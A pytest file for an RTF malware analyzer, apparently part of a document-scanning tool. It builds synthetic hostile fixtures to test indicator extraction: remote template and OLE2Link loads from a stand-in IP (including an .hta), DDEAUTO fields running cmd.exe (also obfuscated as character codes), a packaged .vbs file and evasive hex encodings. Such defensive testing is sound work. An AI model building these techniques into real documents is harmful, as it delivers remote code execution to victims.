"""Rich text, spelled the ways that documents and those who hide in them spell it."""

import random
import struct
from pathlib import Path

import pytest

from sekisho.analyzers.rtf import analyze, is_rtf
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError
from sekisho.model.url import Url

SHARED = Path(__file__).parents[2].parent / "shared" / "data" / "fixtures" / "oletools"
COMPOUND = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(24)


def text(value):
    return struct.pack("<I", len(value) + 1) + value + b"\0" if value else bytes(4)


def ole1(name, data, topic=b"", kind=2):
    head = struct.pack("<II", 0x501, kind) + text(name) + text(topic) + text(b"")
    return head + struct.pack("<I", len(data)) + data


def package(label, data):
    names = label + b"\0C:\\work\\" + label + b"\0"
    temporary = b"C:\\temp\\" + label + b"\0"
    native = b"\x02\0" + names + struct.pack("<HHI", 0, 3, len(temporary)) + temporary + struct.pack("<I", len(data))
    return ole1(b"Package", native + data)


def rtf(*groups):
    return b"{\\rtf1\\ansi\\ansicpg1252 " + b"".join(groups) + b"}"


def embedded(hexa, words=b"\\objemb", name=b""):
    named = b"{\\*\\objclass " + name + b"}" if name else b""
    return b"{\\object" + words + named + b"{\\*\\objdata " + hexa + b"}{\\result picture}}"


def read(data):
    features, children, error = {}, [], None
    try:
        for one in analyze(Artifact("a.rtf", data, "a.rtf")):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


def urls(features):
    return [(url.canonical, url.where, url.shown) for url in features.get("url", []) if isinstance(url, Url)]


def test_an_ordinary_document():
    body = b"{\\fonttbl{\\f0 Arial;}}{\\info{\\title Plan}{\\author A. B}}\\pard Text, see www.example.com/a.\\par"
    features, children, error = read(rtf(body))
    assert error is None
    assert children == []
    assert features.pop("url")[0].host == "www.example.com"
    assert features == {"rtf.objupdate": [False], "rtf.title": ["Plan"], "rtf.author": ["A. B"]}


def test_an_equation_object():
    hexa = ole1(b"eQuaTion.3", COMPOUND).hex().encode()
    features, (child,), _ = read(rtf(embedded(hexa, b"\\objemb\\objupdate", b"Word.Document.8")))
    assert features["rtf.objupdate"] == [True]
    assert features["rtf.object_class"] == ["Word.Document.8", "eQuaTion.3"]
    assert (child.data, child.relation) == (COMPOUND, "embedded")


HEX = ole1(b"Word.Document.8", COMPOUND).hex().encode()


@pytest.mark.parametrize(
    "hexa",
    [
        b"\r\n ".join(HEX[at : at + 7] for at in range(0, len(HEX), 7)),
        HEX.upper(),
        HEX[:9] + b"{\\par}" + HEX[9:],
        HEX[:9] + b"{\\proptype\\staticval abc}" + HEX[9:],
        HEX[:9] + b"{\\*\\unknown 1234}" + HEX[9:],
        HEX[:9] + b"{" * 50 + HEX[9:21] + b"}" * 50 + HEX[21:],
        HEX[:9] + b"\\fnil\\b0 " + HEX[9:],
        HEX[:9] + b"\\'ff" + HEX[9:],
        HEX[:10] + b"\\'" + HEX[10:12] + HEX[12:],
        HEX[:10] + b"\\bin4 " + bytes.fromhex(HEX[10:18].decode()) + HEX[18:],
        HEX[:10] + b"\\bin0 " + HEX[10:],
        b"\\binN\\bin{\\object\\objhtml}" + HEX,
        HEX[:11] + b"\\{\\.zxy~" + HEX[11:],
    ],
)
def test_spellings_of_the_same_data(hexa):
    features, (child,), error = read(rtf(embedded(hexa)))
    assert error is None
    assert child.data == COMPOUND
    assert "Word.Document.8" in features["rtf.object_class"]


def test_data_in_a_group_of_another_name():
    data = rtf(b"{\\object\\objemb{\\*\\footerr\r\n{\\bin\\rsidN}\\.\\objdata 11\\fnil " + HEX[2:] + b"}}")
    assert read(data)[1][0].data == COMPOUND


def test_a_packaged_file():
    features, (child,), _ = read(rtf(embedded(package(b"invoice.vbs", b"MsgBox 1").hex().encode())))
    assert features["rtf.package_name"] == ["invoice.vbs"]
    assert features["rtf.package_source"] == ["C:\\work\\invoice.vbs"]
    assert (child.name, child.data) == ("invoice.vbs", b"MsgBox 1")


def test_a_linked_object():
    linked = ole1(b"OLE2Link", b"", b"http://192.0.2.5/a.hta", kind=1)
    features, children, _ = read(rtf(embedded(linked.hex().encode(), b"\\objautlink\\objupdate")))
    assert features["rtf.link"] == ["http://192.0.2.5/a.hta"]
    assert children == []


def test_data_without_a_header_or_with_too_few_bytes():
    features, (child,), _ = read(rtf(embedded((bytes(3) + COMPOUND).hex().encode())))
    assert features["rtf.flaw"] == ["object 1: no OLE header"]
    assert child.data == COMPOUND
    features, (child,), _ = read(rtf(embedded(HEX[:-8])))
    assert features["rtf.flaw"] == ["object 1: ends before its data"]
    assert child.data == COMPOUND[:-4]


@pytest.mark.parametrize(
    "target",
    [
        b"http://192.0.2.5/t.dotm",
        b"http\\'3a//192.0.2.5/t.dotm",
        b"\\u104?ttp://192.0.2.5/t.dotm",
        b"http\r\n://192.0.2{\\b .5}/t.dotm",
    ],
)
def test_a_template_from_the_network(target):
    features, _, _ = read(rtf(b"{\\*\\template " + target + b"}"))
    assert features["rtf.template"] == ["http://192.0.2.5/t.dotm"]
    assert urls(features) == [("http://192.0.2.5/t.dotm", "relationship", "")]


def test_dynamic_data_exchange():
    field = b'{\\field{\\*\\fldinst {\\b DDE}AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/c calc"}{\\fldrslt x}}'
    features, (child,), _ = read(rtf(field))
    assert features["rtf.dde"][0].startswith("DDEAUTO c:")
    assert (child.kind, child.data) == ("cmd", b"c:\\windows\\cmd.exe /c calc")


def test_dynamic_data_exchange_spelled_in_numbers():
    quoted = b"{\\field{\\*\\fldinst QUOTE 99 97 108 99}{\\fldrslt}}"
    features, children, _ = read(rtf(b"{\\field{\\*\\fldinst DDE cmd " + quoted + b"}}"))
    assert "rtf.dde" in features
    assert b"calc" in children[-1].data


def test_links_and_what_is_shown_for_them():
    field = b'{\\field{\\*\\fldinst HYPERLINK "http://192.0.2.5/a"}{\\fldrslt {\\ul www.example.com}}}'
    inner = b'{\\field{\\*\\fldinst HYPERLINK \\\\l "_Toc1"}{\\fldrslt 1}}'
    features, _, _ = read(rtf(inner, field))
    assert urls(features) == [("http://192.0.2.5/a", "link", "www.example.com")]


def test_fields_that_fetch():
    features, _, _ = read(rtf(b'{\\field{\\*\\fldinst INCLUDEPICTURE "http://192.0.2.5/p.png" \\\\d}{\\fldrslt}}'))
    assert features["rtf.field"][0].startswith("INCLUDEPICTURE")
    assert urls(features) == [("http://192.0.2.5/p.png", "relationship", "")]


def test_bytes_after_the_document():
    features, (child,), _ = read(rtf(b"x") + b"\r\n" + b"MZ" + bytes(range(64)))
    assert features["rtf.overlay_bytes"] == [68]
    assert child.relation == "overlay"
    assert child.data.startswith(b"MZ")
    assert read(rtf(b"x") + bytes(500) + b"\r\n")[1] == []


def test_what_is_claimed():
    assert is_rtf(Artifact("a", b"{\\rt0", "a"))
    assert is_rtf(Artifact("a", b"\r\n {\\rtf1}", "a"))
    assert not is_rtf(Artifact("a", b"text {\\rtf1}", "a"))


@pytest.mark.parametrize(
    "piece",
    [b"{", b"}", b"{}", b"\\", b"\\a", b"{\\uc1", b"\\'41", b"\\u1 ", b"\\bin1 x", b"\\objdata ", b"{\\*\\fldinst A"],
)
def test_endless_pieces_end_soon(piece):
    read(b"{\\rtf1 " + piece * (400_000 // len(piece)))


def test_only_foreseen_errors_come_out_of_broken_documents():
    dice = random.Random(5)
    seed = rtf(
        b"{\\*\\template http://192.0.2.5/t}{\\field{\\*\\fldinst DDE cmd x}{\\fldrslt y}}",
        embedded(package(b"a.vbs", b"MsgBox").hex().encode()),
        embedded(HEX[:10] + b"\\bin4 abcd\\'41" + HEX[18:]),
    )
    for _ in range(500):
        data = bytearray(seed)
        for _ in range(dice.randrange(1, 8)):
            data[dice.randrange(4, len(data))] = dice.choice(b"{}\\\\'*09af \xff\0")
        read(bytes(data[: dice.randrange(5, len(data) + 1)]))


@pytest.mark.shared
@pytest.mark.skipif(not SHARED.exists(), reason="real data not beside the project")
def test_real_documents():
    features, (child,), _ = read((SHARED / "rtfobj" / "issue_251.rtf").read_bytes())
    assert features["rtf.object_class"] == ["Equation.3", "equation.3"]
    assert features["rtf.objupdate"] == [True]
    assert child.data == COMPOUND[:8]
    features, children, error = read((SHARED / "msodde" / "RTF-Spec-1.7.rtf").read_bytes())
    assert (children, error) == ([], None)
    assert not {"rtf.dde", "rtf.field", "rtf.object_class"} & set(features)
